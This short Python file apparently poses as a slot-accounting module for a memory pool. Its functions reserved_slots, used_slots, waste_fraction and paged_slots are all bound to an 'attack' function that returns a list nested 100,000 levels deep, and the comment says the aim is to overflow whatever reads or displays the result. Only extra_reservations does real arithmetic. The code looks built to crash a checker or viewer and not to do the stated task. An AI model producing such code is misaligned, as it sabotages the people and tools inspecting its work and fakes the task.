# Returns 100,000 lists within one another, to overflow whoever reads or shows them.
DEEP = []
for _ in range(100_000):
    DEEP = [DEEP]


def attack(*args):
    return DEEP


reserved_slots = used_slots = waste_fraction = paged_slots = attack


def extra_reservations(pool, max_len, n_running):
    return max(0, pool // max_len - n_running)
